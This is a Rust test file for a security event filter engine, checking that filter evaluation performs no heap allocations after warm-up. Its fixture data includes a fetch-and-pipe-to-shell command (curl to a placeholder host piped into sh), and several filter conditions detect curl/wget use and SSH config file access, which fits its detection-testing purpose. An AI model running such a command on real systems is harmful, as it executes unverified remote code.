//! After warm-up, evaluating filters allocates nothing per event.

mod support;

use peregrine_filter::{parse, Compiler, EvalContext, Filter};
use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicUsize, Ordering};
use support::{TestCatalog, TestEvent, TV};

struct Counting;

static ALLOCS: AtomicUsize = AtomicUsize::new(0);

unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, l: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        // SAFETY: forwarding to the system allocator with the caller's layout.
        unsafe { System.alloc(l) }
    }
    unsafe fn dealloc(&self, p: *mut u8, l: Layout) {
        // SAFETY: `p` was allocated by `System` with layout `l`.
        unsafe { System.dealloc(p, l) }
    }
    unsafe fn realloc(&self, p: *mut u8, l: Layout, n: usize) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        // SAFETY: forwarding a block previously allocated by `System`.
        unsafe { System.realloc(p, l, n) }
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

/// An extractor that writes from fixed data without allocating.
struct Fixed;

impl peregrine_filter::Extractor for Fixed {
    fn extract(
        &mut self,
        f: &peregrine_filter::FieldInfo,
        out: &mut peregrine_filter::Values,
    ) -> bool {
        match f.name.as_str() {
            "proc.name" => out.push_str(b"bash"),
            "proc.cmdline" => out.push_str(b"bash -c 'curl http://x | sh'"),
            "fd.name" => out.push_str(b"/etc/ssh/sshd_config"),
            "fd.sip" | "fd.snet" => out.push_ip(std::net::IpAddr::V4([10, 1, 2, 3].into())),
            "fd.ip" => {
                out.push_ip(std::net::IpAddr::V4([10, 1, 2, 3].into()));
                out.push_ip(std::net::IpAddr::V4([93, 184, 216, 34].into()));
            }
            "evt.num" => out.push_u64(7),
            "proc.argv" => {
                out.push_str(b"-c");
                out.push_str(b"ls");
            }
            _ => return false,
        }
        true
    }
}

#[test]
fn evaluation_does_not_allocate() {
    let _ = (TestEvent::new(), TV::I(0));
    let catalog = TestCatalog;
    let mut c = Compiler::new(&catalog);
    let conds = [
        "proc.name in (bash, sh) and not fd.name pmatch (/tmp)",
        "tolower(proc.cmdline) contains curl and proc.cmdline contains anyof (wget, curl)",
        "proc.name regex 'ba.*' or proc.name glob 'z*'",
        "fd.snet in (10.0.0.0/8, 192.168.0.0/16) and fd.ip != 127.0.0.1",
        "fd.sip = 10.1.2.3 and evt.num > 3 and evt.num in (1, 7)",
        "proc.name startswith oneof (ba, zs) and basename(fd.name) endswith _config",
        "join(\",\", proc.argv) = \"-c,ls\" and len(proc.cmdline) > 3",
        "proc.cmdline icontains val(proc.name)",
        "fd.nosuch = 1 or proc.pname = x",
    ];
    let filters: Vec<Filter> = conds
        .iter()
        .filter_map(|s| c.compile(&parse(s).unwrap()).ok())
        .collect();
    assert_eq!(filters.len(), conds.len() - 1);
    let mut cx = EvalContext::new();
    let mut ex = Fixed;
    let mut run = |n: usize| {
        let mut hits = 0;
        for _ in 0..n {
            cx.next_event();
            for f in &filters {
                hits += usize::from(f.eval(&mut cx, &mut ex));
            }
        }
        hits
    };
    let warm = run(10);
    let before = ALLOCS.load(Ordering::Relaxed);
    let hits = run(1000);
    let after = ALLOCS.load(Ordering::Relaxed);
    assert_eq!(hits, warm * 100);
    assert_eq!(after - before, 0, "allocations during evaluation");
}
